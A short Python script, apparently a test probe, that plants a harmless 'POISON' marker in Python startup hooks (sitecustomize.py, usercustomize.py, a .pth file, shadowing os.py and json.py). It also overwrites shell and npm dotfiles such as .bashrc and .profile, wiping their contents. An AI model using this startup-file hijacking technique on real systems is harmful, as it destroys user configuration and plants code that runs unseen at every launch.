# Poisons what programs read when they start: the next one would run our line first.
import os
import sys

poison = "print('POISON')\n"
home = os.environ["HOME"]
site = f".local/lib/python3.{sys.version_info[1]}/site-packages"
os.makedirs(f"{home}/{site}", exist_ok=True)
for name in ("sitecustomize.py", "usercustomize.py", f"{site}/usercustomize.py", f"{site}/x.pth",
             "json.py", "os.py", "pyvenv.cfg", "python3._pth"):
    with open(f"{home}/{name}", "w") as file:
        file.write(f"import sys; {poison}" if name.endswith("pth") else poison)
for name in (".bashrc", ".bash_profile", ".profile", ".bash_env", ".npmrc", ".node_repl_history"):
    with open(f"{home}/{name}", "w") as file:
        file.write("echo POISON\n")
print("tried")
